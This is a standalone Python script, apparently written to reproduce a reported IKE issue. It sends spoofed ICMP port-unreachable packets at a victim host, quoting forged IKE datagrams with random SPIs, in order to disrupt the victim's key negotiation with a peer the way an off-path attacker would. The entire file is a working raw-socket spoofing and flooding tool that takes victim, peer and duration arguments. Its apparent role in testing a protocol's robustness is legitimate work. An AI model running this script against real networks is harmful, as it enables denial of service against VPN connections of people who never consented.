#!/usr/bin/env python3
# Spoofed ICMP port unreachables at VICTIM that quote an IKE datagram
# VICTIM:500 -> PEER:500 with a random SPI, as an off-path attacker would
# send them while VICTIM negotiates with PEER (issue 14): every error
# the attacker can make, since it cannot know the SPIi.
#   spoof_icmp.py VICTIM PEER SECONDS
import os, socket, struct, sys, time

def csum(b):
    if len(b) % 2:
        b += b"\0"
    s = sum(struct.unpack("!%dH" % (len(b) // 2), b))
    s = (s >> 16) + (s & 0xFFFF)
    s += s >> 16
    return ~s & 0xFFFF

victim, peer, seconds = sys.argv[1], sys.argv[2], float(sys.argv[3])
s = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP)
end = time.time() + seconds
sent = 0
while time.time() < end:
    ike = os.urandom(8) + bytes(8) + bytes([33, 0x20, 34, 0x08]) + bytes(4) + struct.pack("!I", 28)
    udp = struct.pack("!HHHH", 500, 500, 8 + len(ike), 0)
    inner = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(udp) + len(ike), 0, 0, 64, 17, 0,
                        socket.inet_aton(victim), socket.inet_aton(peer))
    body = inner + udp + ike
    icmp = struct.pack("!BBHI", 3, 3, 0, 0) + body
    icmp = struct.pack("!BBHI", 3, 3, csum(icmp), 0) + body
    s.sendto(icmp, (victim, 0))
    sent += 1
    time.sleep(0.001)
print("sent %d spoofed port unreachables" % sent)
